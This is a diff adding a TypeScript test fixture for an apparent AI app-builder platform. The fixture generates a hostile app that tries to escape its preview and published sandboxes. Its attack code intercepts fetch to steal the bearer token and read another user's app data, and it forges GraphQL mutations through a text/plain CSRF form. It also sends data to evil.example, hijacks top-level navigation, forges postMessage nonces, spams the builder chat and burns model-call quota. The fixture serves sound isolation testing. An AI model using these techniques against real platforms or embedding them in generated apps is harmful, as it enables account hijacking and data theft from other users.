@@ -1,0 +1,177 @@
+/** Where the hostile code aims. */
+export interface Targets {
+  readonly builderUrl: string;
+  readonly runtimeUrl: string;
+  /** An app of somebody else, published. */
+  readonly otherAppId: string;
+  readonly otherUrl: string;
+}
+
+/**
+ * A generated app that tries what it must not be able to do. Each attempt leaves what came of it in the page: the name of the error,
+ * or the value that it got hold of. The text below is the app's own code, as a model could have written it.
+ */
+export function hostileFiles(targets: Targets): Record<string, Record<string, string>> {
+  const aims = Object.entries(targets)
+    .map(([name, value]) => `const ${name} = ${JSON.stringify(value)};`)
+    .join('\n');
+  return {
+    pages: {
+      Home: `export default function Home() { return <h1>Welcome</h1>; }`,
+      Preview: `import { previewAttacks } from '@/services/preview';\nimport Attempts from '@/components/Attempts';
+export default function Preview() { return <Attempts attacks={previewAttacks}/>; }`,
+      Published: `import { publishedAttacks } from '@/services/published';\nimport Attempts from '@/components/Attempts';
+export default function Published() { return <Attempts attacks={publishedAttacks}/>; }`,
+      Ask: `import { useEffect } from 'react';
+const ask = () => { for (let i = 0; i < 50; i++) window.sayso.sendChatMessage('Spend it all ' + i); };
+export default function Ask() {
+  useEffect(() => { ask(); setTimeout(() => { ask(); setTimeout(() => console.log('asked'), 500); }, 500); }, []);
+  return <button id="ask" onClick={ask}>Nice button</button>;
+}`,
+      Forever: `import { useEffect } from 'react';
+export default function Forever() { useEffect(() => { setTimeout(() => { console.log('for ever'); for (;;) {} }, 50); }, []); return <p id="forever">for ever</p>; }`,
+    },
+    components: { Attempts: ATTEMPTS },
+    services: {
+      preview: `import { InvokeLLM } from '@/integrations/Core';\nimport { Note } from '@/entities/Note';\n${aims}\n${COMMON}\n${PREVIEW}`,
+      published: `import { InvokeLLM } from '@/integrations/Core';\nimport { Note } from '@/entities/Note';\n${aims}\n${COMMON}\n${PUBLISHED}`,
+    },
+    entities: { Note: NOTE },
+  };
+}
+
+/** A table that only its makers read. */
+export const NOTE = JSON.stringify({
+  name: 'Note',
+  type: 'object',
+  properties: { text: { type: 'string' } },
+  'x-accessControl': { permissions: { read: 'creator', write: 'creator' } },
+});
+
+const ATTEMPTS = `import { useEffect, useState } from 'react';
+async function attempt(run) {
+  try { return { got: await Promise.race([run(), new Promise((resolve) => setTimeout(() => resolve('nothing came'), 4000))]) }; }
+  catch (error) { return { refused: error?.name ?? String(error), status: error?.status }; }
+}
+export default function Attempts({ attacks }) {
+  const [results, setResults] = useState(null);
+  useEffect(() => { void (async () => {
+    const all = {};
+    for (const [name, run] of Object.entries(attacks)) all[name] = await attempt(run);
+    setResults(all);
+  })(); }, []);
+  return results && <pre id="results">{JSON.stringify(results)}</pre>;
+}`;
+
+const COMMON = `
+/** The token that the app's own calls carry. */
+async function stolenToken() {
+  const { fetch } = window;
+  let token = null;
+  window.fetch = (url, init) => { token = init.headers.authorization ?? null; return fetch(url, init); };
+  await Note.list().catch(() => null);
+  window.fetch = fetch;
+  return token;
+}
+const frameOf = (src) => new Promise((resolve) => {
+  const frame = document.createElement('iframe');
+  frame.onload = frame.onerror = () => resolve(frame);
+  if (src) frame.src = src;
+  document.body.append(frame);
+});
+const post = (url, options) => fetch(url, { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, ...options })
+  .then(async (answer) => answer.status + ' ' + (await answer.text()));
+const CREATE = JSON.stringify({ query: 'mutation { createApp(input: { name: "Forged" }) { id } }' });
+/** A form needs no permission to be read: it only has to arrive. */
+function formTo(target) {
+  const form = document.createElement('form');
+  Object.assign(form, { method: 'POST', enctype: 'text/plain', action: builderUrl + '/graphql', target });
+  const field = document.createElement('input');
+  field.name = CREATE.slice(0, -1) + ',"x":"';
+  field.value = '"}';
+  form.append(field);
+  document.body.append(form);
+  form.submit();
+}
+const socket = (url) => new Promise((resolve, reject) => {
+  const opened = new WebSocket(url, 'graphql-transport-ws');
+  opened.onopen = () => resolve('open');
+  opened.onerror = () => reject(new DOMException('', 'SocketRefused'));
+});
+async function spend() {
+  let granted = 0;
+  for (let i = 0; i < 60; i++) await InvokeLLM({ prompt: 'Count to a million' }).then(() => { granted++; }, () => {});
+  return granted;
+}
+`;
+
+const PREVIEW = `
+const nonce = new URLSearchParams(location.hash.slice(1)).get('nonce');
+const frameMessage = (message) => window.parent.postMessage({ source: 'sayso-preview', nonce, ...message }, '*');
+export const previewAttacks = {
+  origin: () => self.origin,
+  parentDocument: () => window.parent.document.title,
+  parentStorage: () => window.parent.localStorage.length,
+  parentName: () => window.parent.name,
+  topAddress: () => window.top.location.href,
+  ownCookies: () => Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document),
+  ownStorage: async () => (await frameOf()).contentWindow.localStorage.length,
+  database: () => indexedDB.open('x'),
+  caches: async () => (await caches.keys()).length,
+  navigateTop: () => { window.top.location.href = 'https://evil.example/'; },
+  replaceParent: () => { window.parent.location.replace('https://evil.example/'); },
+  openTop: () => String(window.open('https://evil.example/', '_top')),
+  linkTop: () => { const link = document.createElement('a'); link.href = 'https://evil.example/'; link.target = '_top'; document.body.append(link); link.click(); },
+  openBuilder: async () => { const opened = window.open(builderUrl + '/home'); await new Promise((resolve) => setTimeout(resolve, 1500)); return opened.document.title; },
+  serviceWorker: () => navigator.serviceWorker.register('/m/worker.js').then(() => 'registered'),
+  graphql: () => post(builderUrl + '/graphql', { body: CREATE }),
+  graphqlPlain: () => post(builderUrl + '/graphql', { mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: CREATE }),
+  api: () => fetch(builderUrl + '/api/apps', { credentials: 'include' }).then((answer) => answer.text()),
+  socket: () => socket(builderUrl.replace('http', 'ws') + '/graphql'),
+  form: () => formTo('_blank'),
+  framed: async () => (await frameOf(builderUrl + '/home')).contentDocument.title,
+  elsewhere: () => fetch('https://evil.example/?rows').then(() => 'sent'),
+  clipboard: () => navigator.clipboard.readText(),
+  otherApp: async () => {
+    const authorization = await stolenToken();
+    const answer = await fetch(runtimeUrl + '/live_api/apps/' + otherAppId + '/entities/Note', { headers: { authorization } })
+      .then((response) => response.text(), () => 'nothing to read');
+    return (authorization?.startsWith('Bearer ') ? 'with a token: ' : 'without a token: ') + answer;
+  },
+  wrongNonce: () => { frameMessage({ nonce: 'guess', type: 'send-chat-message', content: 'Forged with a wrong nonce' }); },
+  wrongSource: () => { frameMessage({ source: 'sayso-builder', type: 'send-chat-message', content: 'Forged as the builder' }); },
+  ownNavigation: () => { window.postMessage({ source: 'sayso-builder', nonce, type: 'navigate', page: 'Forever' }, '*'); },
+  malformed: () => { for (const error of [null, 7, { title: {} }]) frameMessage({ type: 'app-error', error }); frameMessage({ type: 'app-changed-url', path: 7, page: '//evil.example' }); },
+  spend,
+};
+`;
+
+const PUBLISHED = `
+const opened = async (url) => { const other = window.open(url); await new Promise((resolve) => setTimeout(resolve, 1500)); return other; };
+export const publishedAttacks = {
+  origin: () => self.origin.replace(/^http:\\/\\/[a-z0-9-]+\\./, 'http://*.').replace(/:\\d+$/, ''),
+  cookies: () => document.cookie,
+  plantCookie: () => { document.cookie = 'sayso.session_token=forged; domain=localhost; path=/'; return document.cookie; },
+  graphql: () => post(builderUrl + '/graphql', { body: CREATE }),
+  graphqlPlain: () => post(builderUrl + '/graphql', { mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: CREATE }),
+  api: () => fetch(builderUrl + '/api/apps', { credentials: 'include' }).then((answer) => answer.text()),
+  socket: () => socket(builderUrl.replace('http', 'ws') + '/graphql'),
+  ownGraphql: () => post('/graphql', { body: CREATE }).then((answer) => answer.slice(0, 3)),
+  ownApi: () => fetch('/api/apps', { credentials: 'include' }).then((answer) => answer.status),
+  form: () => formTo('_blank'),
+  image: () => new Promise((resolve, reject) => { const image = new Image(); image.onload = () => resolve('loaded'); image.onerror = () => reject(new DOMException('', 'ImageRefused')); image.src = builderUrl + '/favicon.svg'; }),
+  openBuilder: async () => (await opened(builderUrl + '/home')).document.title,
+  openOther: async () => (await opened(otherUrl)).localStorage.length,
+  frameBuilder: async () => (await frameOf(builderUrl + '/home')).contentDocument.title,
+  frameOther: async () => (await frameOf(otherUrl)).contentWindow.localStorage.length,
+  serviceWorker: () => navigator.serviceWorker.register(document.querySelector('script[type=module]').src, { scope: '/m/' }).then(() => 'registered'),
+  elsewhere: () => fetch('https://evil.example/?rows').then(() => 'sent'),
+  otherApp: async () => {
+    const authorization = await stolenToken();
+    const asWhom = authorization ? { headers: { authorization } } : {};
+    return (await fetch('/live_api/apps/' + otherAppId + '/entities/Note', asWhom)).status;
+  },
+  evaluate: () => new Function('return 1')(),
+  spend,
+};
+`;
